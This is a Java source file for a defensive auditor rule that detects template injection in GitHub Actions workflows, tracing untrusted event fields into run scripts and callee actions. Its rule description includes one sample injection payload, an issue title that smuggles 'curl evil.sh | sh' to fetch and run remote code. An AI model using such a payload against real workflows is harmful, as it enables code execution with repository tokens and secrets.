package dev.tokenwarden.auditor.domain.rules;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;

import dev.tokenwarden.auditor.domain.finding.Confidence;
import dev.tokenwarden.auditor.domain.finding.Severity;
import dev.tokenwarden.auditor.domain.model.Job;
import dev.tokenwarden.auditor.domain.model.UsesRef;
import dev.tokenwarden.auditor.domain.model.Workflow;
import dev.tokenwarden.auditor.domain.rules.TaintFlow.Hit;
import dev.tokenwarden.auditor.domain.rules.TaintFlow.Scope;
import dev.tokenwarden.auditor.domain.rules.TaintModel.Taint;
import dev.tokenwarden.auditor.domain.yaml.YamlMapping;
import dev.tokenwarden.auditor.domain.yaml.YamlScalar;

/**
 * An attacker-controlled value expanded with {@code ${{ }}} into code: a {@code run:} script, an input that an
 * action evaluates as code ({@code actions/github-script}'s {@code script:}, ...), or, through {@code with:},
 * such a sink inside a local composite action or reusable workflow. Sources, flows and sinks are the
 * {@link TaintModel}'s; severity and confidence come from the workflow's events.
 */
public final class TemplateInjection implements Rule {

    private static final RuleInfo INFO = new RuleInfo("template-injection",
            "Untrusted input expanded into a script",
            Severity.HIGH, Confidence.HIGH,
            "`${{ }}` is expanded before the shell or JavaScript runs, so a value like an issue title "
                    + "`a\"; curl evil.sh | sh; echo \"` becomes code, running with the job's token and secrets. "
                    + "Titles, bodies, comments, branch names, commit messages and author fields are chosen by "
                    + "whoever opens the issue, pull request or branch; the rule follows them through `env:`, step "
                    + "outputs, job outputs, matrix values and the inputs of local actions and reusable workflows "
                    + "(see [the taint model](taint-model.md)). Severity follows the event (high where the run "
                    + "has the base repository's secrets, medium under `pull_request`), confidence how directly the "
                    + "value arrives: low for a step output whose origin the auditor cannot see. Only expressions "
                    + "whose value reaches the script are reported: `${{ github.head_ref == 'main' }}` is a boolean.",
            "Pass the value through an environment variable and quote it in the script: "
                    + "`env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"`.",
            """
            - run: echo "Checking ${{ github.event.pull_request.title }}"
            """,
            """
            - env:
                TITLE: ${{ github.event.pull_request.title }}
              run: echo "Checking $TITLE"
            """);

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(Workflow workflow, RuleContext context) {
        TaintFlow flow = TaintFlow.of(workflow, context.repository());
        workflow.steps().forEach(s -> {
            Scope scope = Scope.of(s);
            for (TaintModel.Sink sink : TaintModel.bundled().sinks(s.step())) {
                for (Hit hit : flow.hits(sink.code().value(), scope)) {
                    context.report(workflow.source().positionOf(sink.code(), hit.template().start()),
                            "`" + hit.path() + "` " + describe(hit.path().toString(), hit.taint()) + " and is expanded into " + sink.name(),
                            hit.taint().severity(), hit.taint().confidence());
                }
            }
            s.step().usesRef().ifPresent(uses -> intoCallee(flow, uses, s.step().with(), scope, context));
        });
        for (Job job : workflow.jobs()) {
            job.uses().flatMap(u -> UsesRef.parse(u.value())).ifPresent(uses ->
                    intoCallee(flow, uses, job.node().mapping("with"), new Scope(Optional.of(job), Optional.empty()), context));
        }
    }

    /**
     * Tainted values passed with {@code with:} to a local composite action or reusable workflow that expands
     * them into one of its own sinks: reported here, at the input, where this workflow's events are known.
     */
    private static void intoCallee(TaintFlow flow, UsesRef uses, Optional<YamlMapping> with, Scope scope, RuleContext context) {
        Optional<Workflow> callee = context.repository().resolve(uses);
        if (callee.isEmpty() || with.isEmpty()) {
            return;
        }
        Map<String, Taint> tainted = flow.inputs(with, scope);
        if (tainted.isEmpty()) {
            return;
        }
        Map<String, YamlScalar> at = new LinkedHashMap<>();
        with.get().entries().forEach(e -> {
            if (e.value() instanceof YamlScalar value) {
                at.put(e.key().value().toLowerCase(Locale.ROOT), value);
            }
        });
        TaintFlow inside = flow.callee(callee.get(), tainted);
        callee.get().steps().forEach(s -> {
            for (TaintModel.Sink sink : TaintModel.bundled().sinks(s.step())) {
                for (Hit hit : inside.hits(sink.code().value(), Scope.of(s))) {
                    YamlScalar value = hit.taint().input().map(at::get).orElseThrow();
                    int line = callee.get().source().positionOf(sink.code(), hit.template().start()).line();
                    context.report(value, "input `" + hit.taint().input().get() + "` " + describe("", hit.taint())
                                    + "; " + callee.get().file() + " line " + line + " expands it into " + sink.name(),
                            hit.taint().severity(), hit.taint().confidence());
                }
            }
        });
    }

    /** What the value at {@code path} is, for a message: where it comes from, or that the auditor cannot see that. */
    private static String describe(String path, Taint taint) {
        if (!taint.traced()) {
            return "comes from `" + taint.source() + "`, whose value the auditor cannot trace,";
        }
        String chosen = taint.filled() ? "outsiders can choose" : "outsiders choose under other events, not this workflow's";
        return taint.source().equals(path) ? "is text " + chosen + "," : "carries `" + taint.source() + "`, text " + chosen + ",";
    }
}
